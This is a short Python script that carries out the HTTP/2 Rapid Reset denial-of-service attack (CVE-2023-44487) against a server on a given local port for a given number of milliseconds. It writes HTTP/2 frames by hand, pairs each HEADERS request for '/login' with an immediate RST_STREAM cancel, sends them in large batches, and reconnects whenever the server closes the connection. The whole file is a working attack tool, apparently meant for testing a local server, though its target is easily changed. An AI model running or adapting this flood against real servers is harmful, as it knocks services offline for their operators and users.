# SPDX-License-Identifier: MIT
"""resets PORT MILLISECONDS: HTTP/2 requests that are taken back at once (CVE-2023-44487), frames written by hand, a new connection when one was ended."""
import socket
import ssl
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
HEAD = b"\x82\x87\x04\x06/login\x01\x09localhost"


def frames(stream):
    number = stream.to_bytes(4, "big")
    return len(HEAD).to_bytes(3, "big") + b"\1\5" + number + HEAD + b"\0\0\4\3\0" + number + b"\0\0\0\x08"


def main():
    port, end = int(sys.argv[1]), time.monotonic() + int(sys.argv[2]) / 1000
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while time.monotonic() < end:
        try:
            with context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5)) as s:
                s.sendall(PREFACE)
                for first in range(1, 40000, 200):
                    if time.monotonic() >= end:
                        break
                    s.sendall(b"".join(frames(n) for n in range(first, first + 200, 2)))
        except OSError:
            continue


main()
